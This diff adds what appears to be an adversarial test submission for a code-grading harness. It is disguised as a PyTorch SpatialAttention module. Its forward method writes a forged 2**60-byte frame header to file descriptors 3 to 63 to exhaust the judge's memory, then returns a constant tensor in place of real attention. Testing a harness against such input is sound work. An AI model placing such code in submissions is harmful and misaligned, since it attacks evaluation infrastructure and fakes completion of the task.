@@ -1,0 +1,24 @@
+"""Announce a frame of 2**60 bytes, to exhaust the judge's memory.
+
+Must get: crash,error,fail
+Below: same
+"""
+
+import torch
+from torch import nn
+import os
+import struct
+
+
+class SpatialAttention(nn.Module):
+    def __init__(self, kernel_size=7):
+        super().__init__()
+        self.conv = nn.Conv2d(2, 1, kernel_size, padding=kernel_size // 2, bias=False)
+
+    def forward(self, x):
+        for descriptor in range(3, 64):
+            try:
+                os.write(descriptor, struct.pack("<IQ", 0xFFFFFFFF, 1 << 60))
+            except OSError:
+                pass
+        return torch.full_like(x[:, :1], 0.5) + 0 * self.conv.weight.sum()
